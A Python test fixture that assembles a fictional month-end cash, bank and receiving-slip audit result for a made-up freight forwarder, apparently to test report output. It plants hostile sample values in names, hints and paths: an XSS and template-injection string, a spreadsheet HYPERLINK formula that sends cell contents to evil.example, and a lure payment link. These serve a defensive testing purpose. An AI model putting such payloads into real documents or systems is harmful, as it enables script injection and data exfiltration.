"""A made-up month of 捷远国际货运代理有限公司 as the audit would hand it to the reports."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import date
from decimal import Decimal
from typing import Any

from auditor.audit.headlines import headlines_of
from auditor.checks.base import Population
from auditor.findings.model import (
    AuditInfo,
    AuditResult,
    DocumentSummary,
    Failed,
    Finding,
    NearMiss,
    RanSet,
    RecordRef,
    RuleResult,
    Statement,
    StatementForm,
    StatementLine,
    Tier,
)
from auditor.findings.statements import form_of_file
from auditor.languages import Text
from auditor.rules.folders import find_rule_set, load_folders
from auditor.rules.merging import merged
from auditor.rules.statements import load_statements

HOSTILE = "<script>alert(1)</script>{{ 7*7 }}{% raw %}"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
LINK = "https://evil.example/pay"
ZERO = Decimal(0)
HEADLINES = headlines_of(merged(load_folders([find_rule_set("freight-month-end")]))[0])


def text(en: str, zh: str) -> Text:
    return Text(en=en, zh=zh)


def record(number: int, kind: str, side: str, key: str, document: str, **values: str) -> RecordRef:
    return RecordRef(
        id=number,
        type=kind,
        side=side,
        key=key,
        document=document,
        page=1,
        sheet=None,
        row=number,
        box=None,
        raw="\t".join(values.values()),
        via="cell",
        proof="proved",
        values=values,
    )


def slip(number: int, side: str, key: str, **values: str) -> RecordRef:
    return record(number, "receiving_slip", side, key, "01收货清单/宝安A/2026-10-08.xlsx", slip_no=key, **values)


def finding(code: str, key: str, severity: str = "high", **given: Any) -> Finding:
    """A finding of a code; what is not given is empty."""
    difference = given.pop("difference", None)
    amount = given.pop("amount", None)
    facts: dict[str, Any] = {
        "id": hashlib.sha256(f"{code} {key}".encode()).hexdigest()[:12],
        "rule": RULE_OF[code.partition("-")[0]],
        "rule_version": 1,
        "duty": DUTY_OF[code.partition("-")[0]],
        "code": code,
        "severity": severity,
        "title": TITLES[code],
        "outcome": "fails",
        "key": key,
        "field": None,
        "party": None,
        "party_name": None,
        "expected": None,
        "actual": None,
        "difference": None if difference is None else Decimal(difference),
        "amount": Decimal(amount) if amount else (abs(Decimal(difference)) if difference else None),
        "currency": "CNY" if (difference or amount) and given.get("unit", "money") == "money" else None,
        "date": date(2026, 10, 20),
        "explanation": text(f"{key} does not agree", f"{key} 不相符"),
        "hint": None,
        "owner": None,
        "unit": "money",
        "criterion": {},
        "nearest": (),
        "records": (),
    }
    return Finding(**(facts | given))


DUTY_OF = {
    "REG": "D03",
    "CNT": "D06",
    "SEQ": "D07",
    "BIL": "D08",
    "BNK": "D12",
    "RCT": "D14",
    "CSH": "D15",
    "DAY": "D11",
}
RULE_OF = {
    "REG": "slips-against-register",
    "CNT": "covers-against-slips",
    "SEQ": "slip-numbers",
    "BIL": "slips-against-bills",
    "BNK": "bank-against-ledger",
    "RCT": "receipt-numbers",
    "CSH": "cash-count",
    "DAY": "customer-days",
}
TITLES = {
    "REG-01": text("Registered, no slip", "有登记无清单"),
    "REG-03": text("Registered field wrong", "登记信息有误"),
    "CNT-01": text("Ticket count differs", "票数不符"),
    "SEQ-01": text("Number missing", "清单断号/缺号"),
    "SEQ-05": text("Outside the issued range", "超领用范围"),
    "BIL-01": text("Slip not billed", "清单漏计账单"),
    "BIL-02": text("Billed without slip", "账单无清单"),
    "BIL-03": text("Pieces differ", "件数不符"),
    "BIL-06": text("Billed twice", "重复计费"),
    "DAY-01": text("Customer-day amount differs", "单日金额不符"),
    "BNK-02": text("In ledger, not in bank", "账上有、银行无（虚登）"),
    "BNK-04": text("Direction reversed", "收支方向相反"),
    "BNK-05": text("Date beyond the window", "日期不符"),
    "BNK-08": text("Export balance chain broken", "余额不连续"),
    "BNK-90": text("Timing item in window", "未达账项（窗口内）"),
    "RCT-01": text("Receipt number missing", "收据断号"),
    "CSH-03": text("Count shortage", "现金短款"),
}


def findings() -> tuple[Finding, ...]:
    near = slip(120, "near", "SH26-004293", date="2026-10-31", customer="C08", pieces="6", amount="1413.72")
    registered = finding(
        "REG-01",
        "SH26-004242",
        difference="1316.57",
        outcome="right_only",
        party="C06",
        party_name="中山市澜沁卫浴有限公司",
        records=(
            record(
                256,
                "register_entry",
                "right",
                "SH26-004242",
                "03统计报表/统计报表2026-10.xlsx",
                slip_no="SH26-004242",
                customer=HOSTILE,
                pieces="8",
                amount="1316.57",
                pay_mode="monthly",
            ),
        ),
    )
    unbilled = finding(
        "BIL-01",
        "SH26-004022",
        difference="-1544.29",
        outcome="left_only",
        party="C08",
        party_name="珠海市海拓贸易有限公司",
        records=(slip(22, "left", "SH26-004022", date="2026-10-12", customer="C08", pieces="3", amount="1544.29"),),
        nearest=(
            NearMiss(
                (near,),
                True,
                ("customer",),
                (Failed("pieces", "3", "6", "3"), Failed("amount", "1544.29", "1413.72", "-130.57")),
            ),
        ),
    )
    pieces = finding(
        "REG-03",
        "SH26-004327/件数",
        "medium",
        difference="-3",
        outcome="differs",
        field="pieces",
        unit="count",
        expected="9",
        actual="6",
        records=(
            slip(27, "left", "SH26-004327", pieces="9", customer="C08"),
            record(
                190,
                "register_entry",
                "right",
                "SH26-004327",
                "03统计报表/统计报表2026-10.xlsx",
                slip_no="SH26-004327",
                pieces="6",
                customer="C08",
            ),
        ),
    )
    many = tuple(
        slip(number, "left", f"SH26-0040{number}", date="2026-10-21", amount="10.00") for number in range(77, 84)
    )
    return (
        registered,
        finding("BIL-02", "SH26-004242", difference="1316.57", status="derived", derived_from=registered.id),
        finding("SEQ-01", "SH26-004090"),
        finding("SEQ-05", "SH26-004612", amount="159.84"),
        unbilled,
        finding("BIL-01", "SH26-004243", difference="-3135.51", party_name=FORMULA),
        finding("BIL-02", "SH26-004888", difference="368.00", explanation=text(HOSTILE, HOSTILE)),
        finding("BIL-06", "SH26-004278", difference="1110.78", hint=text(LINK, LINK)),
        finding("DAY-01", "C05/10-20", difference="360.00"),
        finding("BNK-02", "ICBC/10-24", difference="6000.00"),
        finding("BNK-04", "CCB/10-16", difference="-30000.00"),
        finding("BNK-08", "BOC/10-16", difference="-25.00", currency="USD"),
        finding("RCT-01", "0003142"),
        finding("CSH-03", "10-31 count", difference="-35.00"),
        finding(
            "BIL-01",
            "SH26-004999",
            difference="-88.00",
            outcome="left_only",
            status="derived",
            derived_from="document:06客户账单/ZD2610-C10.xlsx",
        ),
        pieces,
        finding("BIL-03", "SH26-004116", "medium", difference="-2", field="pieces", unit="count"),
        finding(
            "CNT-01",
            "A/10-21",
            "medium",
            difference="1",
            outcome="count_differs",
            field="tickets",
            records=many,
            unit="count",
        ),
        finding("BNK-05", "ICBC/10-08", "low", amount="38415.60", owner=text("Cashier", "出纳")),
        finding("BNK-90", "CCB/10-31", "info", amount="19402.00"),
    )


def rule(name: str, duty: str, check: str, en: str, zh: str, status: str = "findings", **given: Any) -> RuleResult:
    return RuleResult(
        name, 1, duty, check, text(en, zh), text(f"Why {en}", f"为何{zh}"), status, given.pop("reason", None), **given
    )


def rules() -> tuple[RuleResult, ...]:
    sides = (
        Population(
            "left", "live_slip", 419, 417, 0, 2, Decimal("318471.62"), Decimal("316791.82"), ZERO, Decimal("1679.80")
        ),
        Population(
            "right",
            "register_entry",
            420,
            417,
            1,
            2,
            Decimal("320761.69"),
            Decimal("316356.54"),
            Decimal("1.00"),
            Decimal("4404.15"),
            left_out=5,
            empty=2,
            undecided=1,
        ),
    )
    return (
        rule(
            "slips-against-register",
            "D03",
            "match",
            "Slips against the register",
            "清单与统计报表逐一核对",
            populations=sides,
            passes=(
                Tier("1", Text("slip and waybill number", "清单号、运单号"), 416),
                Tier("2", Text("slip number", "清单号"), 1),
            ),
        ),
        rule(
            "covers-against-slips",
            "D06",
            "totals",
            "Cover sheets against slips",
            "清单封面与清单核对",
            codes={"CNT-01": TITLES["CNT-01"]},
        ),
        rule("slip-numbers", "D07", "sequence", "Number control of slips", "收货清单编号使用情况审查"),
        rule("slips-against-bills", "D08", "match", "Slips against bills", "收货清单与客户账单核对"),
        rule("customer-days", "D11", "totals", "Customer-day totals", "客户单日金额与总账单核对"),
        rule("bank-against-ledger", "D12", "match", "Bank against ledger", "网银流水与手工银行流水核对"),
        rule("receipt-numbers", "D14", "sequence", "Number control of receipts", "收据使用情况审查"),
        rule("cash-count", "D15", "require", "Cash counted against the book", "现金账实核对"),
        rule("cash-paid-out-of-receipts", "D15", "query", "Nothing paid out of receipts", "不得坐支现金", "clean"),
        rule(
            "bill-cut-off",
            "G",
            "require",
            "Bill lines outside the period",
            "账单跨期核对",
            "not run",
            reason=text("no customer bills", "缺少客户账单"),
        ),
        rule(
            "master-cross-foot",
            "D11",
            "require",
            "The master bill foots",
            "总账单横纵合计核对",
            "failed",
            reason=text("the engine stopped", "引擎出错"),
        ),
    )


def line(en: str, zh: str, role: str, amount: str, *items: tuple[str, str]) -> StatementLine:
    return StatementLine(
        text(en, zh), role, Decimal(amount), None, tuple((label, Decimal(sum_)) for label, sum_ in items)
    )


def form(name: str) -> StatementForm:
    """How the rule set lays out its statement of this name."""
    return form_of_file(load_statements(find_rule_set("cash-and-bank"))[0][name])


def statements() -> tuple[Statement, ...]:
    bank = Statement(
        "bank-reconciliation/CCB",
        "bank_reconciliation",
        text("Bank reconciliation statement", "银行存款余额调节表"),
        "CCB",
        "CNY",
        (
            line("Balance of the bank statement", "银行对账单余额", "balance", "200236.35"),
            line("Add: not yet by the bank", "加：企业已收、银行未收", "add", "19402.00", ("10-31 C05", "19402.00")),
            line(
                "Less: not yet by the bank",
                "减：企业已付、银行未付",
                "less",
                "2980.00",
                ("10-30 腾辉报关行", "2980.00"),
            ),
            line("Adjusted bank balance", "调节后银行余额", "result", "216658.35"),
            line("Balance of the ledger", "企业账面余额", "balance", "167317.60"),
            line(
                "Errors of the ledger",
                "应更正的账面差错",
                "add",
                "49340.75",
                ("BNK-01", "22115.75"),
                ("BNK-04", "30000.00"),
                ("BNK-03", "-180.00"),
            ),
            line("Corrected ledger", "更正后账面余额", "result", "216658.35"),
            line("Difference that remains", "未查明差额", "check", "0.00"),
        ),
        ties=True,
        form=form("bank-reconciliation"),
    )
    cash = Statement(
        "cash-count/2026-10-31",
        "cash_count",
        text("Cash count", "现金盘点表"),
        "2026-10-31",
        "CNY",
        (
            line("Cash counted", "实存现金", "balance", "2834.81", ("100 × 26", "2600.00")),
            line("IOUs", "白条", "add", "2000.00", ("张伟", "2000.00")),
            line("Balance of the cash journal", "现金日记账余额", "balance", "4869.81"),
            line("Short or over", "短款或长款", "check", "-35.00"),
        ),
        ties=False,
        form=form("cash-count"),
    )
    return bank, cash


def document(number: int, path: str, status: str = "read", **given: Any) -> DocumentSummary:
    facts: dict[str, Any] = {
        "layout": None,
        "records": {},
        "proofs": (),
        "problems": (),
        "ignored": (),
        "remarks": (),
        "rows": {"seen": 0, "records": 0, "problems": 0, "ignored": 0},
    }
    return DocumentSummary(number=number, path=path, sha256=f"{number:064x}", status=status, **(facts | given))


def documents() -> tuple[DocumentSummary, ...]:
    proof = {"name": "running balance", "where": "row 2", "detail": {"en": "holds row by row", "zh": "逐笔相符"}}
    problem = {
        "code": "Unreadable",
        "place": "06客户账单/ZD2610-C10.xlsx",
        "found": None,
        "en": "06客户账单/ZD2610-C10.xlsx: the file is cut off\n  do: ask for it again",
        "zh": "06客户账单/ZD2610-C10.xlsx：文件不完整\n  处理：请重新索取",
    }
    header = {"place": f"{HOSTILE}:1", "reason": {"en": "header row", "zh": "表头"}, "count": 2}
    return (
        document(
            1,
            "01收货清单/宝安A/2026-10-08.xlsx",
            records={"receiving_slip": 7},
            ignored=(header,),
            rows={"seen": 9, "records": 7, "problems": 0, "ignored": 2},
        ),
        document(2, f"04联络单+客服表/{FORMULA.replace('/', '_')}.xlsx", "not recognised"),
        document(3, "06客户账单/ZD2610-C10.xlsx", "unreadable", problems=(problem,)),
        document(
            4,
            "08网银/建设银行.xls",
            "read with problems",
            layout="bank/ccb-corporate",
            records={"bank_transaction": 12},
            proofs=({**proof, "status": "holds"}, {**proof, "name": "printed totals", "status": "broken"}),
            problems=(problem,),
            rows={"seen": 15, "records": 12, "problems": 1, "ignored": 2},
        ),
        document(5, "08网银/建设银行 (1).xls", "duplicate"),
    )


def result() -> AuditResult:
    """The whole result."""
    return AuditResult(
        audit=AuditInfo(
            entity="捷远国际货运代理有限公司",
            period=(date(2026, 10, 1), date(2026, 10, 31)),
            currency="CNY",
            rules="freight-month-end",
            rules_title=text("Freight forwarder's month end", "货代出纳月末审核"),
            rules_version="1.0",
            rules_sha256="2eb2ab40" * 8,
            parameters=(
                ("money_tolerance", text("Tolerance", "金额容差"), "0.00 CNY", False),
                ("cash_limit", text("Cash limit", "库存现金限额"), "12000.00 CNY", True),
            ),
            auditor="0.1.0",
            run_at="2026-11-03 09:00:00",
            calendar="cn",
            sets=(
                RanSet("freight-month-end", text("Freight forwarder's month end", "货代出纳月末审核"), "1.0"),
                RanSet("cash-and-bank", text("Cash and bank", "现金与银行月末审核"), "1.0", asked=False),
            ),
        ),
        documents=documents(),
        rules=rules(),
        findings=findings(),
        statements=statements(),
        titles={"live_slip": text("Receiving slips (live)", "收货清单（有效）")},
        headlines=HEADLINES,
    )


def clean_result() -> AuditResult:
    """A month in which everything agrees and everything was read and run."""
    whole = result()
    return replace(
        whole,
        documents=whole.documents[:1],
        rules=tuple(replace(each, status="clean") for each in whole.rules if each.status in ("clean", "findings")),
        findings=(),
        statements=whole.statements[:1],
    )


def large_result(count: int) -> AuditResult:
    """A result with `count` exceptions of one rule, of rising amounts."""
    many = tuple(finding("BIL-01", f"SH26-{number:06d}", difference=f"-{number}.00") for number in range(1, count + 1))
    return replace(result(), findings=many)
